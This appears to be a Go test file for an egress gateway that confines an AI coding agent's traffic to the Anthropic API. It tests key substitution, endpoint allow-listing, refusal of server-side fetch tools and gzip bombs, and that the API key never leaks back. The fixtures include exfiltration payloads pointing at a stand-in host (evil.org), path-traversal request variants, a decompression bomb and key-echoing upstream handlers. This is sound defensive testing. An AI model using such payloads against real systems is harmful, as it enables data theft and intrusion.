package egress

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/claude-bottle/claude-bottle/backend"
)

const (
	ourKey   = "sk-ant-ours-canary"
	theirKey = "sk-ant-attackers"
)

// api is an upstream that records what reaches it.
type api struct {
	*httptest.Server
	mu       sync.Mutex
	requests []*http.Request
	bodies   []string
	answer   http.HandlerFunc
}

func newAPI(t *testing.T, answer http.HandlerFunc) *api {
	a := &api{answer: answer}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		a.mu.Lock()
		a.requests, a.bodies = append(a.requests, r), append(a.bodies, string(body))
		a.mu.Unlock()
		if a.answer != nil {
			a.answer(w, r)
		}
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *api) heard() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return len(a.requests)
}

// agent is a client that reaches nothing but the gateway.
type agent struct {
	t      *testing.T
	client *http.Client
	events *[]Event
}

func newAgent(t *testing.T, options AnthropicOptions) agent {
	t.Helper()
	var mu sync.Mutex
	events := new([]Event)
	options.Log = func(event Event) {
		mu.Lock()
		defer mu.Unlock()
		*events = append(*events, event)
	}
	if options.Credential.Empty() {
		options.Kind, options.Credential = backend.CredentialAPIKey, backend.NewSecret(ourKey)
	}
	gateway, err := NewAnthropic(options)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(gateway.Close)
	return agent{t, routeClient(t, gateway), events}
}

// routeClient is a client that reaches nothing but the route, and follows no
// redirect.
func routeClient(t *testing.T, route *Route) *http.Client {
	transport := &http.Transport{
		DisableCompression: true,
		DialContext: func(context.Context, string, string) (net.Conn, error) {
			inside, outside := net.Pipe()
			route.Serve(outside)
			return inside, nil
		},
	}
	t.Cleanup(transport.CloseIdleConnections)
	return &http.Client{Transport: transport, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func (a agent) do(method, path string, header http.Header, body []byte) (*http.Response, string) {
	a.t.Helper()
	request, err := http.NewRequestWithContext(a.t.Context(), method, "http://"+GatewayHost+path, bytes.NewReader(body))
	if err != nil {
		a.t.Fatal(err)
	}
	for name, values := range header {
		request.Header[name] = values
	}
	response, err := a.client.Do(request)
	if errors.Is(err, io.EOF) { // cut before the first byte of the answer
		return &http.Response{}, "[cut]"
	}
	if err != nil {
		a.t.Fatal(err)
	}
	defer func() { _ = response.Body.Close() }()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		text = append(text, "\n[cut]"...)
	}
	return response, string(text)
}

func (a agent) post(body string) int {
	response, _ := a.do("POST", "/v1/messages", nil, []byte(body))
	return response.StatusCode
}

func TestT29_TheUsersKeyReplacesWhateverTheAgentSends(t *testing.T) {
	for _, test := range []struct {
		kind                   backend.CredentialKind
		wantKey, wantAuthority string
	}{
		{backend.CredentialAPIKey, ourKey, ""},
		{backend.CredentialOAuth, "", "Bearer " + ourKey},
	} {
		upstream := newAPI(t, nil)
		a := newAgent(t, AnthropicOptions{Upstream: upstream.URL, Kind: test.kind, Credential: backend.NewSecret(ourKey)})
		a.do("POST", "/v1/messages", http.Header{
			"X-Api-Key": {theirKey, theirKey}, "Authorization": {"Bearer " + theirKey}, "x-api-key": {theirKey}, "Proxy-Authorization": {theirKey},
			"Cookie": {theirKey}, "Anthropic-Version": {"2023-06-01"}, "Connection": {"Anthropic-Version"},
		}, []byte(`{}`))
		got := upstream.requests[0]
		if got.Header.Get("X-Api-Key") != test.wantKey || got.Header.Get("Authorization") != test.wantAuthority {
			t.Errorf("%v: key %q, authorization %q", test.kind, got.Header.Values("X-Api-Key"), got.Header.Values("Authorization"))
		}
		for name, values := range got.Header {
			if strings.Contains(strings.Join(values, " "), theirKey) {
				t.Errorf("the attacker's key went upstream as %s", name)
			}
		}
		if got.Host != strings.TrimPrefix(upstream.URL, "http://") {
			t.Errorf("upstream sees host %q", got.Host)
		}
	}
}

func TestT29_OnlyWhatClaudeNeedsIsOpen(t *testing.T) {
	upstream := newAPI(t, nil)
	a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
	for _, open := range []string{
		"POST /v1/messages", "POST /v1/messages?beta=true", "POST /v1/messages/count_tokens", "GET /v1/models", "GET /api/hello", "HEAD /api/hello",
	} {
		method, path, _ := strings.Cut(open, " ")
		before := upstream.heard()
		if response, text := a.do(method, path, nil, []byte("{}")); response.StatusCode != http.StatusOK || upstream.heard() != before+1 {
			t.Errorf("%s: %d %s", open, response.StatusCode, text)
		}
	}
	before := upstream.heard()
	for _, shut := range []string{
		"POST /v1/files", "GET /v1/files", "GET /v1/files/file_1/content", "DELETE /v1/files/x", "GET /v1/messages", "PUT /v1/messages",
		"TRACE /v1/messages", "TRACE /", "OPTIONS /v1/messages", "CONNECT /v1/messages", "PATCH /v1/messages", "GET /v1/messages/batches",
		"POST /v1/messages/batches", "POST /v1/messages/", "POST //v1/messages", "POST /v1/./messages", "POST /v1/../v1/messages",
		"POST /v1/messages/../files", "POST /v1/messages/%2e%2e/files", "POST /v1%2fmessages", "POST /v1/messages%00", "POST /v1/messages;x",
		"POST /V1/messages", "GET /v1/organizations/me", "GET /v1/models/../files", "GET /v1/skills", "POST /v1/complete", "GET /",
		"POST /v1/oauth/token", "GET /api/oauth/profile", "POST /api/hello", "POST /api/event_logging/batch",
	} {
		method, path, _ := strings.Cut(shut, " ")
		if response, text := a.do(method, path, nil, []byte("{}")); response.StatusCode != http.StatusForbidden && response.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %d %s", shut, response.StatusCode, text)
		}
	}
	if upstream.heard() != before {
		t.Errorf("%d refused requests went upstream", upstream.heard()-before)
	}
}

func TestT29_WhatMakesTheProviderFetchIsRefused(t *testing.T) {
	const url = `{"type":"image","source":{"type":"url","url":"https://evil.org/?d"}}`
	tests := []struct{ name, body, tool string }{
		{"mcp servers", `{"mcp_servers":[{"type":"url","url":"https://evil.org"}]}`, "mcp"},
		{"no mcp server", `{"mcp_servers":[]}`, "mcp"},
		{"web search", `{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`, "web_search"},
		{"web fetch", `{"tools":[{"name":"x"},{"type":"web_fetch_20250910"}]}`, "web_fetch"},
		{"code execution", `{"tools":[{"type":"code_execution_20250825"}]}`, "code_execution"},
		{"mcp toolset", `{"tools":[{"type":"mcp_toolset"}]}`, "mcp"},
		{"unknown tool", `{"tools":[{"type":"teleport_20270101"}]}`, "teleport"},
		{"escaped", `{"tools":[{"\u0074ype":"web_\u0073earch_20250305"}]}`, "web_search"},
		{"second of two keys", `{"tools":[],"tools":[{"type":"web_search_20250305"}]}`, "web_search"},
		{"type twice", `{"tools":[{"type":"custom","type":"web_search_20250305"}]}`, "web_search"},
		{"image by url", `{"messages":[{"role":"user","content":[` + url + `]}]}`, "url"},
		{"image in a result", `{"messages":[{"role":"user","content":[{"type":"tool_result","content":[` + url + `]}]}]}`, "url"},
		{"file", `{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"x"}}]}]}`, "file"},
	}
	for _, test := range tests {
		upstream := newAPI(t, nil)
		a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
		if status := a.post(test.body); status != http.StatusForbidden || upstream.heard() != 0 {
			t.Errorf("%s: status %d, %d requests upstream", test.name, status, upstream.heard())
		}
		var packed bytes.Buffer
		writer := gzip.NewWriter(&packed)
		_, _ = io.WriteString(writer, test.body)
		_ = writer.Close()
		response, text := a.do("POST", "/v1/messages", http.Header{"Content-Encoding": {"gzip"}}, packed.Bytes())
		if response.StatusCode != http.StatusForbidden || upstream.heard() != 0 {
			t.Errorf("%s, gzipped: status %d, %d requests upstream", test.name, response.StatusCode, upstream.heard())
		}
		var problem struct {
			Error struct{ Type, Message string }
		}
		if err := json.Unmarshal([]byte(text), &problem); err != nil || problem.Error.Type != "permission_error" || !strings.Contains(problem.Error.Message, "serverTools") {
			t.Errorf("%s: the refusal %q names no remedy", test.name, text)
		}
		listed := newAgent(t, AnthropicOptions{Upstream: upstream.URL, ServerTools: []string{test.tool}})
		if status := listed.post(test.body); status != http.StatusOK || upstream.heard() != 1 {
			t.Errorf("%s, listed: status %d", test.name, status)
		}
		if last := (*a.events)[0]; last.Allowed || last.Status != http.StatusForbidden || last.Reason == "" {
			t.Errorf("%s: logged as %+v", test.name, last)
		}
	}
}

func TestBodiesGoUpstreamAsTheyWereRead(t *testing.T) {
	upstream := newAPI(t, nil)
	a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
	const body = `{"tools":[{"name":"x"},{"type":"bash_20250124"}],"messages":[{"role":"user","content":[` +
		`{"type":"tool_use","input":{"source":{"type":"url"}}},{"type":"image","source":{"type":"base64","data":""}}]}]}`
	if status := a.post(body); status != http.StatusOK || upstream.bodies[0] != body {
		t.Errorf("status %d, upstream read %q", status, upstream.bodies)
	}
	for name, bad := range map[string]string{
		"empty": "", "cut": `{"tools":[`, "two values": `{}{"mcp_servers":[]}`, "no JSON": "\x00", "too deep": strings.Repeat("[", 300) + strings.Repeat("]", 300),
	} {
		if status := a.post(bad); status != http.StatusBadRequest {
			t.Errorf("%s: status %d", name, status)
		}
	}
	for _, encoding := range []string{"br", "zstd", "deflate", "gzip, gzip", "GZIP"} {
		if response, _ := a.do("POST", "/v1/messages", http.Header{"Content-Encoding": {encoding}}, []byte("{}")); response.StatusCode != http.StatusBadRequest {
			t.Errorf("body in %s: status %d", encoding, response.StatusCode)
		}
	}
	if upstream.heard() != 1 {
		t.Errorf("%d bad bodies went upstream", upstream.heard()-1)
	}
}

func TestT29_APackedBombIsRefused(t *testing.T) {
	upstream := newAPI(t, nil)
	a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
	var packed bytes.Buffer
	writer := gzip.NewWriter(&packed)
	_, _ = writer.Write([]byte(`"`))
	blank := bytes.Repeat([]byte(" "), 1<<20)
	for range 100 {
		_, _ = writer.Write(blank)
	}
	_ = writer.Close()
	response, _ := a.do("POST", "/v1/messages", http.Header{"Content-Encoding": {"gzip"}}, packed.Bytes())
	if response.StatusCode != http.StatusRequestEntityTooLarge || upstream.heard() != 0 {
		t.Errorf("status %d, %d requests upstream", response.StatusCode, upstream.heard())
	}
}

func TestT30_TheKeyNeverComesBack(t *testing.T) {
	echo := func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "before "+r.Header.Get("X-Api-Key")+" after")
	}
	tests := map[string]http.HandlerFunc{
		"body": echo,
		"error page": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			echo(w, r)
		},
		"header": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Request", "key="+r.Header.Get("X-Api-Key"))
		},
		"cookie": func(w http.ResponseWriter, r *http.Request) {
			http.SetCookie(w, &http.Cookie{Name: "k", Value: r.Header.Get("X-Api-Key")})
		},
		"trailer": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Trailer", "X-Key")
			_, _ = io.WriteString(w, "body")
			w.Header().Set("X-Key", r.Header.Get("X-Api-Key"))
		},
		"trailer without notice": func(w http.ResponseWriter, r *http.Request) {
			_, _ = io.WriteString(w, "body")
			w.Header().Set(http.TrailerPrefix+"X-Key", r.Header.Get("X-Api-Key"))
		},
		"early hints": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Link", r.Header.Get("X-Api-Key"))
			w.WriteHeader(http.StatusEarlyHints)
			w.Header().Del("Link")
			_, _ = io.WriteString(w, "body")
		},
		"byte by byte": func(w http.ResponseWriter, r *http.Request) {
			for _, c := range []byte(r.Header.Get("X-Api-Key")) {
				_, _ = w.Write([]byte{c})
				_ = http.NewResponseController(w).Flush()
			}
		},
		"packed": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			writer := gzip.NewWriter(w)
			_, _ = io.WriteString(writer, r.Header.Get("X-Api-Key"))
			_ = writer.Close()
		},
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", "http://"+GatewayHost+"/v1/messages?"+r.Header.Get("X-Api-Key"))
			w.WriteHeader(http.StatusTemporaryRedirect)
		},
	}
	for name, answer := range tests {
		t.Run(name, func(t *testing.T) {
			upstream := newAPI(t, answer)
			a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
			response, text := a.do("POST", "/v1/messages", nil, []byte("{}"))
			for _, header := range []http.Header{response.Header, response.Trailer} {
				for key, values := range header {
					if strings.Contains(strings.Join(values, " "), ourKey) {
						t.Errorf("the key came back in %s", key)
					}
				}
			}
			if strings.Contains(text, ourKey) {
				t.Errorf("the key came back: %q", text)
			}
			if upstream.heard() != 1 {
				t.Errorf("upstream heard %d requests", upstream.heard())
			}
		})
	}
}

func TestT30_ARedirectIsNotFollowed(t *testing.T) {
	elsewhere := newAPI(t, nil)
	upstream := newAPI(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, elsewhere.URL, http.StatusTemporaryRedirect)
	})
	a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
	if status := a.post("{}"); status != http.StatusBadGateway || elsewhere.heard() != 0 {
		t.Errorf("status %d, %d requests elsewhere", status, elsewhere.heard())
	}
}

func TestEventsAreStreamedAsTheyCome(t *testing.T) {
	next := make(chan struct{})
	upstream := newAPI(t, func(w http.ResponseWriter, _ *http.Request) {
		for i := range 3 {
			_, _ = io.WriteString(w, "data: "+strconv.Itoa(i)+"\n\n")
			_ = http.NewResponseController(w).Flush()
			<-next
		}
	})
	a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
	request, _ := http.NewRequestWithContext(t.Context(), "POST", "http://"+GatewayHost+"/v1/messages", strings.NewReader("{}"))
	response, err := a.client.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = response.Body.Close() }()
	for i := range 3 {
		event := make([]byte, len("data: 0\n\n"))
		if _, err := io.ReadFull(response.Body, event); err != nil || string(event) != "data: "+strconv.Itoa(i)+"\n\n" {
			t.Fatalf("event %d is %q, %v", i, event, err)
		}
		next <- struct{}{} // the server goes on only after its event arrived
	}
}

func TestF31_AnUpstreamThatIsDownIsSaid(t *testing.T) {
	upstream := newAPI(t, nil)
	upstream.Close()
	a := newAgent(t, AnthropicOptions{Upstream: upstream.URL})
	response, text := a.do("POST", "/v1/messages", nil, []byte("{}"))
	if response.StatusCode != http.StatusBadGateway || !strings.Contains(text, "the API can't be reached") || strings.Contains(text, "127.0.0.1") {
		t.Errorf("%d %s", response.StatusCode, text)
	}
}

func TestUpstreamsThatAreRefused(t *testing.T) {
	for _, upstream := range []string{"", "api.anthropic.com", "ftp://api.anthropic.com", "https://", "://", "http://[::1"} {
		if _, err := NewAnthropic(AnthropicOptions{Upstream: upstream}); err == nil {
			t.Errorf("%q is taken", upstream)
		}
	}
}

func FuzzScanner(f *testing.F) {
	f.Add([]byte("before "+ourKey+" after"), uint8(3))
	f.Add([]byte(strings.Repeat("sk-ant-", 9)+ourKey[:9]), uint8(1))
	f.Fuzz(func(t *testing.T, data []byte, step uint8) {
		var out bytes.Buffer
		s := newScanner(io.NopCloser(bytes.NewReader(data)), ourKey)
		_, err := io.CopyBuffer(struct{ io.Writer }{&out}, struct{ io.Reader }{s}, make([]byte, int(step)+1))
		before, _, found := bytes.Cut(data, []byte(ourKey))
		if found != (err != nil) || !bytes.Equal(out.Bytes(), before) {
			t.Errorf("%q became %q, %v", data, out.Bytes(), err)
		}
	})
}

func FuzzCheckRequest(f *testing.F) {
	f.Add([]byte(`{"tools":[{"type":"web_search_20250305"}]}`))
	f.Add([]byte(`{"messages":[{"content":[{"source":{"type":"url"}}]}],"mcp_servers":null}`))
	g := serverSide{}
	f.Fuzz(func(t *testing.T, data []byte) {
		if g.checkRequest(data) != nil {
			return
		}
		if !json.Valid(data) {
			t.Errorf("%q passes, and is not JSON", data)
		}
		var request map[string]json.RawMessage
		if json.Unmarshal(data, &request) == nil {
			if _, ok := request["mcp_servers"]; ok {
				t.Errorf("%q passes", data)
			}
		}
	})
}
